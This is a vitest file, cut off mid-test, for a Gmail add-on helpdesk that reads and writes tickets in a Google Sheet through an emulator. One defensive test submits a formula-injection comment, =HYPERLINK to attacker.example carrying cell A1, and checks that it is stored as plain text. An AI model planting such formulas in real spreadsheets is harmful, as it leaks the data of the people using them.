/**
 * The built add-on bundle under the Apps Script emulator, next to the built processor bundle on
 * the same spreadsheet store. The tests cover the setup card, the cards of opened messages and
 * every card action with Gmail-shaped event objects. They also cover the processor handling what
 * the sidebar queued, and two agents acting on one ticket at once. The first block checks the
 * emulated Sheets advanced service, which the add-on reads and writes through.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildProject, PROJECTS } from '../../scripts/build';
import {
  agentToRow,
  MESSAGE_HEADERS,
  rowToMessage,
  rowToTicket,
  TAB,
  type Row,
} from '../../src/core/sheet';
import type { MessageRecord, Ticket } from '../../src/core/types';
import { DEMO_SECRET, DEMO_TEAM, demoMessages, eml } from '../../src/node/demo';
import { createAppsScript, type AppsScript, type ParsedMailboxMessage } from './emulator';
import { EmulatedGmailMessage } from './emulator/gmail-app';
import type { Runtime } from './emulator/runtime';
import { EmulatedSession } from './emulator/session';
import { loadBundle, type LoadedBundle } from './load-bundle';

const SUPPORT = 'support@example.com';
const BOB = 'bob@example.com';
const CAROL = 'carol@example.com';
const CUSTOMER = 'dana@customer.example';
const SHEET_ID_PROPERTY = 'PLUSDESK_SHEET_ID';
const SECRET_PROPERTY = 'PLUSDESK_SECRET';
/** The demo's first message arrives at 09:00; the desk starts half an hour later. */
const START = new Date('2026-03-02T09:30:00Z');
/** Gmail ends an add-on callback after about 30 s. */
const CALLBACK_LIMIT_MS = 30_000;

type Json = Record<string, unknown>;

let buildDir = '';
let processorCode = '';
let addonCode = '';

beforeAll(async () => {
  buildDir = mkdtempSync(join(tmpdir(), 'plusdesk-addon-'));
  processorCode = await buildProject(PROJECTS[0]!, buildDir);
  addonCode = await buildProject(PROJECTS[1]!, buildDir);
});

afterAll(() => {
  if (buildDir !== '') rmSync(buildDir, { recursive: true, force: true });
});

/** The processor and the add-on projects on one ticket Sheet. */
interface Desk {
  processor: AppsScript;
  processorBundle: LoadedBundle;
  /** The add-on project; its mailbox is Bob's. */
  addon: AppsScript;
  addonBundle: LoadedBundle;
  sheetId: string;
}

interface DeskOptions {
  /** Store the Sheet id in the add-on's script properties; true by default. */
  connectAddon?: boolean;
}

async function runProcessor(desk: Desk): Promise<Json> {
  return (await desk.processor.execution('processInbox', () => desk.processorBundle.call('processInbox'))) as Json;
}

/** Runs setup(), writes the demo team and processes the demo's first stage. */
async function openDesk(options: DeskOptions = {}): Promise<Desk> {
  const processor = createAppsScript({ user: SUPPORT, start: START });
  const addon = createAppsScript({
    user: BOB,
    start: START,
    addOn: true,
    gmailAccess: 'current-message',
    spreadsheets: processor.spreadsheets,
    scriptId: 'plusdesk-addon',
  });
  const processorBundle = loadBundle(processorCode, processor.globals, { filename: 'processor/Code.js' });
  const addonBundle = loadBundle(addonCode, addon.globals, { filename: 'addon/Code.js' });
  await processor.execution('setup', () => processorBundle.call('setup'));
  processor.properties.script.set(SECRET_PROPERTY, DEMO_SECRET);
  const sheetId = processor.properties.script.get(SHEET_ID_PROPERTY)!;
  processor.globals.SpreadsheetApp.openById(sheetId)
    .getSheetByName(TAB.team)!
    .getRange(2, 1, DEMO_TEAM.length, 4)
    .setValues(DEMO_TEAM.map(agentToRow));
  if (options.connectAddon ?? true) addon.properties.script.set(SHEET_ID_PROPERTY, sheetId);
  const desk = { processor, processorBundle, addon, addonBundle, sheetId };
  for (const message of demoMessages().before) processor.mailbox.deliver(eml(message));
  const summary = await runProcessor(desk);
  if (summary.status !== 'done' || tickets(desk).length !== 1) {
    throw new Error(`the processor did not open the demo ticket: ${JSON.stringify(summary)}`);
  }
  return desk;
}

/** Runs an add-on callback as one execution of `agent` (the add-on is one project for all agents). */
async function asAgent<T>(desk: Desk, agent: string, name: string, event: unknown): Promise<T> {
  const context = desk.addonBundle.context as Record<string, unknown>;
  const previous = context.Session;
  context.Session = new EmulatedSession(desk.addon.runtime, {
    effectiveUser: agent,
    activeUser: agent,
    timeZone: 'Etc/UTC',
    locale: 'en',
  });
  try {
    return (await desk.addon.execution(name, () => desk.addonBundle.call(name, event), {
      limitMs: CALLBACK_LIMIT_MS,
    })) as T;
  } finally {
    context.Session = previous;
  }
}

function json(value: unknown): Json {
  return JSON.parse(JSON.stringify(value)) as Json;
}

function tickets(desk: Desk): Ticket[] {
  return desk.processor.spreadsheets
    .values(desk.sheetId, TAB.tickets)
    .slice(1)
    .map((row) => rowToTicket(row as Row))
    .filter((ticket): ticket is Ticket => ticket !== null);
}

function ticket(desk: Desk, number: number): Ticket {
  const found = tickets(desk).find((candidate) => candidate.number === number);
  if (found === undefined) throw new Error(`ticket #${number} is not in the Tickets tab`);
  return found;
}

function messages(desk: Desk): MessageRecord[] {
  return desk.processor.spreadsheets
    .values(desk.sheetId, TAB.messages)
    .slice(1)
    .filter((row) => row.some((cell) => cell !== ''))
    .map((row) => rowToMessage(row as Row));
}

async function sentTo(desk: Desk, address: string): Promise<ParsedMailboxMessage[]> {
  const sent = await desk.processor.mailbox.sent();
  return sent.filter((message) => [...message.to, ...message.cc, ...message.bcc].includes(address));
}

/** The time zone Gmail reports for the agents in these tests. */
const TIME_ZONE = { id: 'Europe/Berlin', offset: 3_600_000 };

interface EventOptions {
  parameters?: Record<string, string>;
  formInputs?: Record<string, string>;
  /** The opened message's fields; homepage events have none. */
  gmail?: { messageId: string; threadId: string; accessToken: string };
}

/** An event object shaped as Gmail sends it to a Workspace add-on callback. */
function gmailEvent(options: EventOptions = {}): Json {
  const commonEventObject: Json = {
    hostApp: 'GMAIL',
    platform: 'WEB',
    userLocale: 'en',
    timeZone: TIME_ZONE,
  };
  if (options.parameters !== undefined) commonEventObject.parameters = options.parameters;
  if (options.formInputs !== undefined) {
    commonEventObject.formInputs = Object.fromEntries(
      Object.entries(options.formInputs).map(([name, value]) => [name, { stringInputs: { value: [value] } }]),
    );
  }
  const event: Json = { commonEventObject };
  if (options.gmail !== undefined) event.gmail = options.gmail;
  return event;
}

/** Builds the event of a message open in Bob's Gmail, with a fresh access token for it. */
function openedEvent(desk: Desk, messageId: string, options: Omit<EventOptions, 'gmail'> = {}): Json {
  const issued = desk.addon.addonEvent({ messageId });
  return gmailEvent({ ...options, gmail: issued.gmail });
}

/** Delivers a copy of the processor's new-ticket notification to Bob's mailbox; returns its id. */
async function deliverNotificationToBob(desk: Desk): Promise<string> {
  const notification = (await sentTo(desk, BOB))[0];
  if (notification === undefined) throw new Error('the processor sent Bob no notification');
  return desk.addon.mailbox.deliver(desk.processor.mailbox.message(notification.id)!.raw).id;
}

function bobMail(subject: string, body: string): string {
  return eml({
    headers: {
      From: 'Erin Young <erin@customer.example>',
      To: BOB,
      Subject: subject,
      Date: 'Mon, 02 Mar 2026 09:40:00 +0000',
      'Message-ID': `<erin.${subject.length}.0302@customer.example>`,
    },
    body,
  });
}

type Widget = Record<string, Json>;

/** Returns every widget of a card, in order. */
function widgets(card: Json): Widget[] {
  return ((card.sections ?? []) as { widgets: Widget[] }[]).flatMap((section) => section.widgets);
}

/** Returns the text of the decorated text with this top label. */
function labelled(card: Json, topLabel: string): string | undefined {
  const found = widgets(card).find((widget) => widget.decoratedText?.topLabel === topLabel);
  return found?.decoratedText?.text as string | undefined;
}

interface ButtonJson {
  text: string;
  onClick: { action: { function: string; parameters: { key: string; value: string }[] } };
}

function buttonsOf(card: Json): ButtonJson[] {
  return widgets(card).flatMap((widget) => ((widget.buttonList?.buttons ?? []) as ButtonJson[]));
}

function followButton(card: Json): ButtonJson | undefined {
  return buttonsOf(card).find((button) => button.onClick.action.function === 'onToggleFollow');
}

function paragraphs(card: Json): string[] {
  return widgets(card)
    .filter((widget) => widget.textParagraph !== undefined)
    .map((widget) => widget.textParagraph!.text as string);
}

interface ActionResponseJson {
  card: Json;
  toast: string | undefined;
}

/** Reads the updated card and the toast of an ActionResponse. */
function actionResponse(value: unknown): ActionResponseJson {
  const data = json(value) as {
    renderActions?: { action?: { navigations?: { updateCard?: Json }[]; notification?: { text?: string } } };
  };
  const action = data.renderActions?.action;
  const card = action?.navigations?.[0]?.updateCard;
  if (card === undefined) throw new Error(`not an updateCard response: ${JSON.stringify(data)}`);
  return { card, toast: action?.notification?.text };
}

describe('Sheets advanced service emulation', () => {
  function sheetsProject(): { gas: AppsScript; id: string } {
    const gas = createAppsScript({ user: SUPPORT });
    const data = gas.spreadsheets.create('values');
    data.sheets[0]!.name = 'Tickets';
    data.addSheet('Team', undefined, 5, 4);
    return { gas, id: data.id };
  }

  it('omits trailing empty cells and rows', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    values.update({ values: [['a', '', 'c', ''], ['', '', '', ''], ['x']] }, id, 'Tickets!A1:D3', { valueInputOption: 'RAW' });
    const read = values.get(id, 'Tickets!A1:E10');
    expect(read).toEqual({ range: 'Tickets!A1:E10', majorDimension: 'ROWS', values: [['a', '', 'c'], [], ['x']] });
  });

  it('leaves values out of an empty range', () => {
    const { gas, id } = sheetsProject();
    const response = gas.globals.Sheets.Spreadsheets.Values.batchGet(id, { ranges: ['Team!A2:D', 'Tickets!B7:C9'] });
    expect(response).toEqual({
      spreadsheetId: id,
      valueRanges: [
        { range: 'Team!A2:D5', majorDimension: 'ROWS' },
        { range: 'Tickets!B7:C9', majorDimension: 'ROWS' },
      ],
    });
  });

  it('renders unformatted and formatted values', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    values.update({ values: [[7, true, '1,000', '=1+2']] }, id, 'Tickets!A1:D1', { valueInputOption: 'USER_ENTERED' });
    const unformatted = values.batchGet(id, { ranges: ['Tickets!A1:D1'], valueRenderOption: 'UNFORMATTED_VALUE' });
    expect(unformatted.valueRanges?.[0]?.values).toEqual([[7, true, 1000, 3]]);
    const formatted = values.batchGet(id, { ranges: ['Tickets!A1:D1'] });
    expect(formatted.valueRanges?.[0]?.values).toEqual([['7', 'TRUE', '1,000', '3']]);
    const formulas = values.get(id, 'Tickets!D1', { valueRenderOption: 'FORMULA' });
    expect(formulas.values).toEqual([['=1+2']]);
  });

  it('reads columns as the major dimension', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    values.update({ values: [[1, 2], [3, '']] }, id, 'Tickets!A1:B2', { valueInputOption: 'RAW' });
    const read = values.get(id, 'Tickets!A1:C3', { majorDimension: 'COLUMNS', valueRenderOption: 'UNFORMATTED_VALUE' });
    expect(read.values).toEqual([[1, 3], [2]]);
  });

  it('stores RAW text as typed', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    values.update({ values: [['=HYPERLINK("http://x.example","y")', "'quoted", '0042']] }, id, 'Tickets!A1:C1', {
      valueInputOption: 'RAW',
    });
    const cells = gas.spreadsheets.sheet(id, 'Tickets').rows[0]!;
    expect(cells.map((cell) => cell.formula)).toEqual([undefined, undefined, undefined]);
    expect(cells.map((cell) => cell.value)).toEqual(['=HYPERLINK("http://x.example","y")', "'quoted", '0042']);
  });

  it('parses USER_ENTERED input like typing', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    values.update({ values: [['=1+2', "'=text", '0042']] }, id, 'Tickets!A1:C1', { valueInputOption: 'USER_ENTERED' });
    const cells = gas.spreadsheets.sheet(id, 'Tickets').rows[0]!;
    expect(cells[0]?.formula).toBe('=1+2');
    expect(cells[1]?.value).toBe('=text');
    expect(cells[2]?.value).toBe(42);
  });

  it('leaves cells of null values unchanged', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    values.update({ values: [['a', 'b']] }, id, 'Tickets!A1:B1', { valueInputOption: 'RAW' });
    const response = values.update({ values: [[null, 'B']] }, id, 'Tickets!A1:B1', { valueInputOption: 'RAW' });
    expect(gas.spreadsheets.values(id, 'Tickets')[0]).toEqual(['a', 'B']);
    expect(response).toEqual({
      spreadsheetId: id,
      updatedRange: 'Tickets!A1:B1',
      updatedRows: 1,
      updatedColumns: 2,
      updatedCells: 1,
    });
  });

  it('requires a value input option', () => {
    const { gas, id } = sheetsProject();
    const error = thrown(() => gas.globals.Sheets.Spreadsheets.Values.update({ values: [['a']] }, id, 'Tickets!A1'));
    expect(error.name).toBe('GoogleJsonResponseException');
    expect(error.message).toContain("'valueInputOption' is required");
  });

  it('rejects data larger than the range', () => {
    const { gas, id } = sheetsProject();
    const error = thrown(() =>
      gas.globals.Sheets.Spreadsheets.Values.update({ values: [['a', 'b', 'c']] }, id, 'Tickets!A1:B1', {
        valueInputOption: 'RAW',
      }),
    );
    expect(error.message).toContain('Requested writing within range [Tickets!A1:B1], but tried writing to column [C]');
  });

  it('rejects ranges past the grid', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    const read = thrown(() => values.get(id, 'Team!A6:D6'));
    expect(read.message).toContain('Range (Team!A6:D6) exceeds grid limits. Max rows: 5, max columns: 4');
    const write = thrown(() => values.update({ values: [['a', 'b', 'c', 'd', 'e']] }, id, 'Team!A2:E2', { valueInputOption: 'RAW' }));
    expect(write.message).toContain('exceeds grid limits');
  });

  it('rejects an unknown sheet', () => {
    const { gas, id } = sheetsProject();
    const error = thrown(() => gas.globals.Sheets.Spreadsheets.Values.get(id, 'Nope!A1'));
    expect(error.message).toContain('Unable to parse range: Nope!A1');
    expect((error as { details?: { code: number } }).details?.code).toBe(400);
  });

  it('returns 404 for an unknown spreadsheet', () => {
    const { gas } = sheetsProject();
    const error = thrown(() => gas.globals.Sheets.Spreadsheets.Values.get('missing', 'Tickets!A1'));
    expect((error as { details?: { code: number } }).details?.code).toBe(404);
  });

  it('appends below the table and grows the sheet', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    values.update({ values: [['Email'], ['a@x'], ['b@x'], ['c@x']] }, id, 'Team!A1:A4', { valueInputOption: 'RAW' });
    const first = values.append({ values: [['d@x', 'Dee']] }, id, 'Team!A:D', { valueInputOption: 'RAW' });
    expect(first).toEqual({
      spreadsheetId: id,
      tableRange: 'Team!A1:A4',
      updates: { spreadsheetId: id, updatedRange: 'Team!A5:B5', updatedRows: 1, updatedColumns: 2, updatedCells: 2 },
    });
    const second = values.append({ values: [['e@x'], ['f@x']] }, id, 'Team!A:D', {
      valueInputOption: 'RAW',
      insertDataOption: 'INSERT_ROWS',
    });
    expect(second.updates?.updatedRange).toBe('Team!A6:A7');
    expect(gas.spreadsheets.sheet(id, 'Team').maxRows).toBe(7);
    expect(gas.spreadsheets.values(id, 'Team').map((row) => row[0])).toEqual(['Email', 'a@x', 'b@x', 'c@x', 'd@x', 'e@x', 'f@x']);
  });

  it('appends to an empty range at its start', () => {
    const { gas, id } = sheetsProject();
    const response = gas.globals.Sheets.Spreadsheets.Values.append({ values: [['x']] }, id, 'Tickets!B3:C', {
      valueInputOption: 'RAW',
    });
    expect(response.tableRange).toBeUndefined();
    expect(response.updates?.updatedRange).toBe('Tickets!B3');
  });

  it('writes every range of a batch or none', () => {
    const { gas, id } = sheetsProject();
    const values = gas.globals.Sheets.Spreadsheets.Values;
    const response = values.batchUpdate(
      { valueInputOption: 'RAW', data: [{ range: 'Tickets!A1', values: [['a']] }, { range: 'Team!B2:C2', values: [['b', 'c']] }] },
      id,
    );
    expect(response.totalUpdatedCells).toBe(3);
    expect(response.totalUpdatedSheets).toBe(2);
    const error = thrown(() =>
      values.batchUpdate(
        { valueInputOption: 'RAW', data: [{ range: 'Tickets!A1', values: [['changed']] }, { range: 'Team!A9', values: [['x']] }] },
        id,
      ),
    );
    expect(error.message).toContain('exceeds grid limits');
    expect(gas.spreadsheets.values(id, 'Tickets')[0]).toEqual(['a']);
  });

  it('counts calls and charges their latency', () => {
    const { gas, id } = sheetsProject();
    const before = gas.clock.now();
    gas.globals.Sheets.Spreadsheets.Values.batchGet(id, { ranges: ['Tickets!A1'] });
    gas.globals.Sheets.Spreadsheets.Values.batchUpdate({ valueInputOption: 'RAW', data: [] }, id);
    expect(gas.calls.byName()).toEqual({
      'Sheets.Spreadsheets.Values.batchGet': 1,
      'Sheets.Spreadsheets.Values.batchUpdate': 1,
    });
    expect(gas.clock.now() - before).toBe(800);
  });
});

/** Returns the error a function throws. */
function thrown(action: () => unknown): Error {
  try {
    action();
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected the call to throw');
}

// NOTE: the emulator's GmailMessage has no getPlainBody, which "Open as ticket" reads. This
// stand-in reads only single-part 7bit or 8bit text/plain messages, which is all this file sends.
// The emulator should provide the method itself.
Object.defineProperty(EmulatedGmailMessage.prototype, 'getPlainBody', {
  configurable: true,
  value(this: { rt: Runtime; stored: { raw: Uint8Array } }): string {
    return this.rt.track('GmailMessage.getPlainBody', () => {
      const raw = new TextDecoder('utf-8').decode(this.stored.raw);
      const split = raw.indexOf('\r\n\r\n');
      const head = split < 0 ? raw : raw.slice(0, split);
      if (/^content-type:\s*multipart\//im.test(head) || /^content-transfer-encoding:\s*(base64|quoted-printable)/im.test(head)) {
        throw new Error('getPlainBody stand-in: only single-part 7bit or 8bit text/plain messages are read');
      }
      return split < 0 ? '' : raw.slice(split + 4).replace(/\r\n/g, '\n');
    });
  },
});

describe('add-on setup card', () => {
  it('asks for the Sheet before it has an id', async () => {
    const desk = await openDesk({ connectAddon: false });
    const card = json(await asAgent(desk, BOB, 'onHomepage', gmailEvent()));
    expect(card.header).toEqual({ title: 'plusdesk', subtitle: 'Connect the ticket Sheet' });
    expect(widgets(card).some((widget) => widget.textInput?.name === 'sheetUrl')).toBe(true);
    expect(buttonsOf(card).map((button) => button.onClick.action.function)).toEqual(['onSaveSheet']);
  });

  it('saves a pasted Sheet URL', async () => {
    const desk = await openDesk({ connectAddon: false });
    const url = `https://docs.google.com/spreadsheets/d/${desk.sheetId}/edit#gid=0`;
    const response = actionResponse(
      await asAgent(desk, BOB, 'onSaveSheet', gmailEvent({ formInputs: { sheetUrl: url } })),
    );
    expect(response.toast).toBe('Ticket Sheet saved.');
    expect(response.card.header).toEqual({ title: 'plusdesk', subtitle: 'Bob Chen · bob@example.com' });
    expect(desk.addon.properties.script.get(SHEET_ID_PROPERTY)).toBe(desk.sheetId);
  });

  it('rejects text that is not a Sheet URL', async () => {
    const desk = await openDesk({ connectAddon: false });
    const response = actionResponse(
      await asAgent(desk, BOB, 'onSaveSheet', gmailEvent({ formInputs: { sheetUrl: 'my tickets' } })),
    );
    expect(response.toast).toBe('Paste the URL of the ticket Sheet, as shown in the browser.');
    expect(paragraphs(response.card)[0]).toContain('"my tickets" is not a Google Sheets URL.');
    expect(desk.addon.properties.script.get(SHEET_ID_PROPERTY)).toBeNull();
  });

  it('keeps the saved id when the new Sheet cannot be read', async () => {
    const desk = await openDesk();
    const other = desk.processor.spreadsheets.create('budget 2026');
    const url = `https://docs.google.com/spreadsheets/d/${other.id}/edit`;
    const response = actionResponse(
      await asAgent(desk, BOB, 'onSaveSheet', gmailEvent({ formInputs: { sheetUrl: url } })),
    );
    expect(response.toast).toBe('That Sheet could not be read: check the URL and that you can open the Sheet.');
    expect(paragraphs(response.card)[0]).toContain('Unable to parse range');
    expect(desk.addon.properties.script.get(SHEET_ID_PROPERTY)).toBe(desk.sheetId);
  });
});

describe('add-on cards', () => {
  it('lists tickets on the homepage', async () => {
    const desk = await openDesk();
    const card = json(await asAgent(desk, BOB, 'onHomepage', gmailEvent()));
    expect(card.header).toEqual({ title: 'plusdesk', subtitle: 'Bob Chen · bob@example.com' });
    const sections = (card.sections as { header: string }[]).map((section) => section.header);
    expect(sections).toEqual(['Assigned to me', 'Following', 'Unassigned']);
    expect(paragraphs(card)).toContain('You follow no open or pending tickets. Click ☆ on a ticket to follow it.');
  });

  it('shows the ticket card of a notification', async () => {
    const desk = await openDesk();
    const messageId = await deliverNotificationToBob(desk);
    const card = json(await asAgent(desk, BOB, 'onGmailMessage', openedEvent(desk, messageId)));
    expect(card.header).toEqual({ title: '#1 CSV export fails with error 500', subtitle: 'Open · Dana Reyes' });
    expect(labelled(card, 'Status')).toBe('Open');
    expect(labelled(card, 'Assignee')).toBe('Alice Martin');
    expect(labelled(card, 'Followers')).toBe('Nobody follows this ticket');
    expect(labelled(card, 'Customer')).toBe('Dana Reyes');
    expect(followButton(card)).toEqual({
      text: '☆ Follow',
      onClick: { action: { function: 'onToggleFollow', parameters: [{ key: 'ticket', value: '1' }] } },
      type: 'OUTLINED',
    });
  });

  it('shows the updated times in the agent zone', async () => {
    const desk = await openDesk();
    const messageId = await deliverNotificationToBob(desk);
    const card = json(await asAgent(desk, BOB, 'onGmailMessage', openedEvent(desk, messageId)));
    const status = widgets(card).find((widget) => widget.decoratedText?.topLabel === 'Status');
    const updated = ticket(desk, 1).updated;
    const local = new Date(Date.parse(updated) + TIME_ZONE.offset);
    const clock = `${String(local.getUTCHours()).padStart(2, '0')}:${String(local.getUTCMinutes()).padStart(2, '0')}`;
    expect(status?.decoratedText?.bottomLabel).toBe(`Updated 2 Mar 2026, ${clock}`);
  });

  it('finds the ticket of a copied customer message', async () => {
    const desk = await openDesk();
    const [first] = demoMessages().before;
    const { id } = desk.addon.mailbox.deliver(eml({ ...first!, headers: { ...first!.headers, Cc: BOB } }));
    const card = json(await asAgent(desk, BOB, 'onGmailMessage', openedEvent(desk, id)));
    expect(card.header).toEqual({ title: '#1 CSV export fails with error 500', subtitle: 'Open · Dana Reyes' });
  });

  it('shows not-a-ticket for other mail', async () => {
    const desk = await openDesk();
    const { id } = desk.addon.mailbox.deliver(bobMail('Invoice copy, please', 'Could you send me the invoice again?'));
    const card = json(await asAgent(desk, BOB, 'onGmailMessage', openedEvent(desk, id)));
    expect(card.header).toEqual({ title: 'Not a ticket', subtitle: 'Invoice copy, please' });
    // Decorated text reads basic HTML, so the renderer escapes the angle brackets.
    expect(labelled(card, 'From')).toBe('Erin Young &lt;erin@customer.example&gt;');
    expect(buttonsOf(card).map((button) => button.onClick.action.function)).toEqual(['onOpenAsTicket', 'onShowHome']);
  });

  it('shows not-a-ticket for a foreign ticket tag', async () => {
    const desk = await openDesk();
    const { id } = desk.addon.mailbox.deliver(bobMail('[#5000] Your order shipped', 'Another shop numbers its mail too.'));
    const card = json(await asAgent(desk, BOB, 'onGmailMessage', openedEvent(desk, id)));
    expect(card.header).toEqual({ title: 'Not a ticket', subtitle: '[#5000] Your order shipped' });
  });
});

describe('add-on actions', () => {
  it('follows the ticket with the star', async () => {
    const desk = await openDesk();
    const messageId = await deliverNotificationToBob(desk);
    const event = openedEvent(desk, messageId, { parameters: { ticket: '1' } });
    const response = actionResponse(await asAgent(desk, BOB, 'onToggleFollow', event));
    expect(response.toast).toBe('You follow #1: you get every new message.');
    expect(response.card.header).toEqual({ title: '#1 CSV export fails with error 500', subtitle: 'Open · Dana Reyes' });
    expect(followButton(response.card)?.text).toBe('★ Following');
    expect(labelled(response.card, 'Followers')).toBe('Bob Chen');
    expect(ticket(desk, 1).followers).toEqual([BOB]);
  });

  it('lists a followed ticket on the homepage', async () => {
    const desk = await openDesk();
    await asAgent(desk, BOB, 'onToggleFollow', gmailEvent({ parameters: { ticket: '1' } }));
    const card = json(await asAgent(desk, BOB, 'onHomepage', gmailEvent()));
    const following = (card.sections as { header: string; widgets: Widget[] }[]).find((section) =>
      section.header.startsWith('Following'),
    );
    expect(following?.header).toBe('Following (1)');
    expect(following?.widgets[0]?.decoratedText?.topLabel).toBe('#1 · Open · Alice Martin');
  });

  it('shows a ticket from the homepage', async () => {
    const desk = await openDesk();
    const response = actionResponse(await asAgent(desk, BOB, 'onShowTicket', gmailEvent({ parameters: { ticket: '1' } })));
    expect(response.toast).toBeUndefined();
    expect(response.card.header).toEqual({ title: '#1 CSV export fails with error 500', subtitle: 'Open · Dana Reyes' });
  });

  it('assigns, closes and comments', async () => {
    const desk = await openDesk();
    const messageId = await deliverNotificationToBob(desk);
    await asAgent(desk, BOB, 'onToggleFollow', openedEvent(desk, messageId, { parameters: { ticket: '1' } }));

    const assigned = actionResponse(
      await asAgent(
        desk,
        BOB,
        'onAssign',
        openedEvent(desk, messageId, { parameters: { ticket: '1' }, formInputs: { assignee: CAROL } }),
      ),
    );
    expect(assigned.toast).toBe(`#1 is assigned to ${CAROL}.`);
    expect(labelled(assigned.card, 'Assignee')).toBe('Carol Diaz');
    expect(ticket(desk, 1).assignee).toBe(CAROL);

    const closed = actionResponse(
      await asAgent(desk, BOB, 'onSetStatus', openedEvent(desk, messageId, { parameters: { ticket: '1', status: 'closed' } })),
    );
    expect(closed.toast).toBe('#1 is closed.');
    expect(closed.card.header).toEqual({ title: '#1 CSV export fails with error 500', subtitle: 'Closed · Dana Reyes' });
    expect(ticket(desk, 1).status).toBe('closed');

    const rowsBefore = messages(desk).length;
    const commented = actionResponse(
      await asAgent(
        desk,
        BOB,
        'onComment',
        openedEvent(desk, messageId, { parameters: { ticket: '1' }, formInputs: { comment: '@carol please look' } }),
      ),
    );
    expect(commented.toast).toBe('Comment added to #1; the processor notifies followers and mentions.');
    const latest = widgets(commented.card).find((widget) => widget.decoratedText?.topLabel === 'Bob Chen · internal comment');
    expect(latest?.decoratedText?.text).toBe('@carol please look');
    const queued = messages(desk).slice(rowsBefore);
    expect(queued).toHaveLength(1);
    expect(queued[0]).toMatchObject({ ticket: 1, kind: 'comment', state: 'queued', author: BOB, summary: '@carol please look' });
  });

  it('rejects an empty comment', async () => {
    const desk = await openDesk();
    const rowsBefore = messages(desk).length;
    const response = actionResponse(
      await asAgent(desk, BOB, 'onComment', gmailEvent({ parameters: { ticket: '1' }, formInputs: { comment: '   ' } })),
    );
    expect(response.toast).toBe('The comment is empty: type a note first.');
    expect(messages(desk)).toHaveLength(rowsBefore);
  });

  it('rejects an agent missing from the Team tab', async () => {
    const desk = await openDesk();
    const response = actionResponse(
      await asAgent(desk, 'eve@example.com', 'onToggleFollow', gmailEvent({ parameters: { ticket: '1' } })),
    );
    expect(response.toast).toBe('eve@example.com is not an active agent on the Team tab: ask a teammate to add you there.');
    expect(ticket(desk, 1).followers).toEqual([]);
  });

  it('stores a formula-looking comment as text', async () => {
    const desk = await openDesk();
    const text = '=HYPERLINK("http://attacker.example/?q="&A1,"click")';
    await asAgent(desk, BOB, 'onComment', gmailEvent({ parameters: { ticket: '1' }, formInputs: { comment: text } }));
    const sheet = desk.processor.spreadsheets.sheet(desk.sheetId, TAB.messages);
    const summaryColumn = MESSAGE_HEADERS.indexOf('Summary');
    const cell = sheet.cell(sheet.lastRow(), summaryColumn + 1);
    expect(cell?.formula).toBeUndefined();
    expect(cell?.value).toBe(text);
    const row = desk.processor.spreadsheets.sheet(desk.sheetId, TAB.tickets).rows[1]!;
    expect(row.every((tickets) => tickets.formula === undefined)).toBe(true);
    expect(ticket(desk, 1).recent.at(-1)?.summary).toBe(text);
  });
});

describe('processor after sidebar actions', () => {
  /** Bob follows #1, assigns it to Carol, closes it and posts a comment that mentions Carol. */
  async function commentOnClosedTicket(desk: Desk): Promise<void> {
    await asAgent(desk, BOB, 'onToggleFollow', gmailEvent({ parameters: { ticket: '1' } }));
    await asAgent(desk, BOB, 'onAssign', gmailEvent({ parameters: { ticket: '1' }, formInputs: { assignee: CAROL } }));
    await asAgent(desk, BOB, 'onSetStatus', gmailEvent({ parameters: { ticket: '1', status: 'closed' } }));
    await asAgent(desk, BOB, 'onComment', gmailEvent({ parameters: { ticket: '1' }, formInputs: { comment: '@carol please look' } }));
  }

  /** Bob requests a ticket for Erin's message to his own address. */
  async function requestTicket(desk: Desk): Promise<ActionResponseJson> {
    const { id } = desk.addon.mailbox.deliver(bobMail('Invoice copy, please', 'Could you send me the invoice again?'));
    return actionResponse(await asAgent(desk, BOB, 'onOpenAsTicket', openedEvent(desk, id)));
  }

  /** New mail from another customer, which makes the processor run past its idle check. */
  function deliverOtherCustomerMail(desk: Desk): void {
    desk.processor.mailbox.deliver(
      eml({
        headers: {
          From: 'Frank Ode <frank@other.example>',
          To: SUPPORT,
          Subject: 'Password reset link expired',
          Date: 'Mon, 02 Mar 2026 09:50:00 +0000',
          'Message-ID': '<frank.0302.0950@other.example>',
        },
        body: 'The reset link says it expired.',
      }),
    );
  }

  function recipients(message: ParsedMailboxMessage): string[] {
    return [...message.to, ...message.cc, ...message.bcc];
  }

  it('handles queued work in the next run without new mail', async () => {
    const desk = await openDesk();
    await commentOnClosedTicket(desk);
    await requestTicket(desk);
    const sentBefore = (await desk.processor.mailbox.sent()).length;

    const summary = await runProcessor(desk);

    expect(summary.status).not.toBe('idle');
    const sent = (await desk.processor.mailbox.sent()).slice(sentBefore);
    expect(sent.map(recipients)).toEqual([[CAROL]]);
    expect(tickets(desk).map((found) => found.number)).toEqual([1, 2]);
  });

  it('notifies only the mentioned agent of a comment', async () => {
    const desk = await openDesk();
    await commentOnClosedTicket(desk);
    const sentBefore = (await desk.processor.mailbox.sent()).length;
    deliverOtherCustomerMail(desk);

    await runProcessor(desk);

    const sent = (await desk.processor.mailbox.sent()).slice(sentBefore);
    const aboutTicket = sent.filter((message) => message.headers['x-plusdesk-ticket'] === '1');
    expect(aboutTicket.map(recipients)).toEqual([[CAROL]]);
    expect(aboutTicket[0]?.text).toContain('@carol please look');
    expect(sent.some((message) => recipients(message).includes(CUSTOMER))).toBe(false);
    const comment = messages(desk).find((record) => record.kind === 'comment' && record.summary === '@carol please look');
    expect(comment?.state).toBe('processed');
  });

  it('opens a queued ticket request', async () => {
    const desk = await openDesk();
    const response = await requestTicket(desk);
    expect(response.toast).toBe('Queued: plusdesk opens this message as a ticket within a few minutes, and you will follow it.');
    const queued = messages(desk).at(-1);
